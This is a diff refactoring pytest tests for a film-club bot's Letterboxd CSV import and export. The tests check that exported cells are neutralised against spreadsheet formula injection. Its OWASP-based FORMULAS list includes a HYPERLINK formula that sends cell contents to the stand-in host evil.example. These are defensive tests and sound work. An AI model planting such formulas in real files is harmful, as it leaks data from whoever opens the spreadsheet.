@@ -7,26 +7,23 @@ from __future__ import annotations
 import csv
 import io
 import re
-import zipfile
-from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
 
 from bot.core import letterboxd, reviews, watch
-from bot.core.catalog import load_catalog
 from bot.core.csvfile import FORMULA_STARTS, neutralise_cell, restore_cell, write_csv
 from bot.core.errors import UserError
-from bot.core.films import active_films, build_title_index
+from bot.core.films import build_title_index
 from bot.core.letterboxd import ExportScope
 from bot.core.search import TitleIndex
 from bot.db.database import Database
-from tests.catalog_builder import film, theme, to_toml, write_catalog
+from tests.catalog_builder import film, load_films
+from tests.clocks import StepClock
 from tests.conftest import REPO
+from tests.letterboxd_files import LIST_HEADER, RATINGS_HEADER, csv_bytes, import_file, zip_bytes
 
 GUILD, ALICE, BOB = 1, 11, 12
-RATINGS_HEADER = "Date,Name,Year,Letterboxd URI,Rating"
-LIST_HEADER = "Date,Name,Year,Letterboxd URI"
 #: What a member can type that a spreadsheet would run (OWASP's CSV injection examples).
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the trailer")',
@@ -36,15 +33,6 @@ FORMULAS = [
     "\t=1+1",
     "\r=1+1",
 ]
-
-
-class FixedClock:
-    def __init__(self) -> None:
-        self.moment = datetime(2026, 3, 1, 12, tzinfo=UTC)
-
-    def now(self) -> datetime:
-        self.moment += timedelta(seconds=1)
-        return self.moment
 
 
 @pytest.fixture
@@ -57,8 +45,7 @@ async def ids(db: Database, tmp_path: Path) -> dict[str, int]:
         film("monterey-pop", title="Monterey Pop", year=1968),
         film("round-midnight", title="'Round Midnight", year=1986),
     ]
-    await load_catalog(db, write_catalog(tmp_path / "cat", {"c.toml": to_toml([theme("live-on-stage")], films)}))
-    return {f.slug: f.id for f in await active_films(db)}
+    return await load_films(db, tmp_path / "cat", films)
 
 
 @pytest.fixture
@@ -67,17 +54,12 @@ async def index(db: Database, ids: dict[str, int]) -> TitleIndex:
     return await build_title_index(db)
 
 
-def csv_bytes(header: str, *rows: str) -> bytes:
-    return ("\n".join([header, *rows]) + "\n").encode("utf-8")
-
-
 def read(data: bytes) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
 
 
-async def club_and_letterboxd(db: Database, index: TitleIndex, ids: dict[str, int]) -> None:
+async def club_and_letterboxd(db: Database, clock: StepClock, index: TitleIndex, ids: dict[str, int]) -> None:
     """Alice reviews two films and marks one seen in the club, and imports a rating and a seen film from Letterboxd."""
-    clock = FixedClock()
     await reviews.post_review(
         db, clock, guild_id=GUILD, user_id=ALICE, film_id=ids["plus-one"], stars=4, body=FORMULAS[0]
     )
@@ -85,42 +67,23 @@ async def club_and_letterboxd(db: Database, index: TitleIndex, ids: dict[str, in
         db, clock, guild_id=GUILD, user_id=ALICE, film_id=ids["minus"], stars=2.5, body="- loud\n- long"
     )
     await watch.mark_seen(db, clock, GUILD, ALICE, ids["monterey-pop"])
-    await letterboxd.import_export(
-        db,
-        clock,
-        index,
-        guild_id=GUILD,
-        user_id=ALICE,
-        filename="letterboxd.zip",
-        data=_zip(
-            {
-                "ratings.csv": csv_bytes(RATINGS_HEADER, "2025-05-01,The Last Waltz,1978,u,4.5"),
-                "watched.csv": csv_bytes(
-                    LIST_HEADER, "2024-01-01,Woodstock,1970,u", "2024-02-01,'Round Midnight,1986,u"
-                ),
-            }
-        ),
-    )
-
-
-def _zip(files: dict[str, bytes]) -> bytes:
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        for name, data in files.items():
-            archive.writestr(name, data)
-    return buffer.getvalue()
+    export = {
+        "ratings.csv": csv_bytes(RATINGS_HEADER, "2025-05-01,The Last Waltz,1978,u,4.5"),
+        "watched.csv": csv_bytes(LIST_HEADER, "2024-01-01,Woodstock,1970,u", "2024-02-01,'Round Midnight,1986,u"),
+    }
+    await import_file(db, index, "letterboxd.zip", zip_bytes(export), guild_id=GUILD, user_id=ALICE, clock=clock)
 
 
 async def test_the_club_export_is_for_letterboxd_and_the_backup_holds_everything(
-    db: Database, index: TitleIndex, ids: dict[str, int]
+    db: Database, index: TitleIndex, ids: dict[str, int], clock: StepClock
 ) -> None:
-    await club_and_letterboxd(db, index, ids)
-    club = await letterboxd.export_csv(db, FixedClock(), guild_id=GUILD, user_id=ALICE, scope=ExportScope.CLUB)
+    await club_and_letterboxd(db, clock, index, ids)
+    club = await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=ALICE, scope=ExportScope.CLUB)
     assert club.filename == "filmclub-for-letterboxd-2026-03-01.csv"
     assert {row["Title"] for row in read(club.data)} == {"'+1", "'-Ism", "Monterey Pop"}
     assert list(read(club.data)[0]) == ["Title", "Year", "Rating", "WatchedDate", "Review"]
 
-    backup = await letterboxd.export_csv(db, FixedClock(), guild_id=GUILD, user_id=ALICE, scope=ExportScope.EVERYTHING)
+    backup = await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=ALICE, scope=ExportScope.EVERYTHING)
     assert backup.filename == "filmclub-backup-2026-03-01.csv"
     rows = {row["Title"]: row for row in read(backup.data)}
     assert {title: row["Source"] for title, row in rows.items()} == {
@@ -136,30 +99,22 @@ async def test_the_club_export_is_for_letterboxd_and_the_backup_holds_everything
 
 
 async def test_a_member_with_only_letterboxd_entries_is_pointed_to_the_backup(
-    db: Database, index: TitleIndex, ids: dict[str, int]
+    db: Database, index: TitleIndex, ids: dict[str, int], clock: StepClock
 ) -> None:
     del ids
-    await letterboxd.import_export(
-        db,
-        FixedClock(),
-        index,
-        guild_id=GUILD,
-        user_id=BOB,
-        filename="ratings.csv",
-        data=csv_bytes(RATINGS_HEADER, "2025-05-01,The Last Waltz,1978,u,4.5"),
-    )
+    ratings = csv_bytes(RATINGS_HEADER, "2025-05-01,The Last Waltz,1978,u,4.5")
+    await import_file(db, index, "ratings.csv", ratings, guild_id=GUILD, user_id=BOB, clock=clock)
     with pytest.raises(UserError, match="Everything you have here came from Letterboxd"):
-        await letterboxd.export_csv(db, FixedClock(), guild_id=GUILD, user_id=BOB)
-    backup = await letterboxd.export_csv(db, FixedClock(), guild_id=GUILD, user_id=BOB, scope=ExportScope.EVERYTHING)
+        await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=BOB)
+    backup = await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=BOB, scope=ExportScope.EVERYTHING)
     assert backup.rows == 1
 
 
 @pytest.mark.parametrize("scope", list(ExportScope))
 async def test_no_exported_cell_is_a_formula(
-    db: Database, index: TitleIndex, ids: dict[str, int], scope: ExportScope
+    db: Database, index: TitleIndex, ids: dict[str, int], clock: StepClock, scope: ExportScope
 ) -> None:
-    await club_and_letterboxd(db, index, ids)
-    clock = FixedClock()
+    await club_and_letterboxd(db, clock, index, ids)
     films = ["the-last-waltz", "woodstock", "monterey-pop", "round-midnight", "plus-one", "minus"]
     for body, slug in zip(FORMULAS, films, strict=True):
         await reviews.post_review(db, clock, guild_id=GUILD, user_id=ALICE, film_id=ids[slug], stars=3, body=body)
@@ -185,10 +140,9 @@ def test_neutralising_cells_follows_owasp_and_is_undone_on_import() -> None:
 
 
 async def test_our_own_export_imports_back_without_duplicating_or_renaming_a_film(
-    db: Database, index: TitleIndex, ids: dict[str, int]
+    db: Database, index: TitleIndex, ids: dict[str, int], clock: StepClock
 ) -> None:
-    await club_and_letterboxd(db, index, ids)
-    clock = FixedClock()
+    await club_and_letterboxd(db, clock, index, ids)
     await reviews.post_review(
         db, clock, guild_id=GUILD, user_id=ALICE, film_id=ids["woodstock"], stars=3, body="@here\t-mud-"
     )
@@ -199,17 +153,13 @@ async def test_our_own_export_imports_back_without_duplicating_or_renaming_a_fil
 
     before = [tuple(r) for r in await db.fetchall(state(ALICE))]
     seen_before = (await watch.seen_by(db, GUILD, [ALICE]))[ALICE]
-    again = await letterboxd.import_export(
-        db, clock, index, guild_id=GUILD, user_id=ALICE, filename=backup.filename, data=backup.data
-    )
+    again = await import_file(db, index, backup.filename, backup.data, guild_id=GUILD, user_id=ALICE, clock=clock)
     assert again.files == ("a filmclub export",)
     assert (again.matched, again.unmatched, again.changed) == (6, (), False)
     assert [tuple(r) for r in await db.fetchall(state(ALICE))] == before
     assert (await watch.seen_by(db, GUILD, [ALICE]))[ALICE] == seen_before
 
-    restored = await letterboxd.import_export(
-        db, clock, index, guild_id=GUILD, user_id=BOB, filename=backup.filename, data=backup.data
-    )
+    restored = await import_file(db, index, backup.filename, backup.data, guild_id=GUILD, user_id=BOB, clock=clock)
     assert restored.unmatched == ()
     assert [r[1:] for r in await db.fetchall(state(BOB))] == [r[1:] for r in before]  # same films, same text
     assert (await watch.seen_by(db, GUILD, [BOB]))[BOB] == seen_before
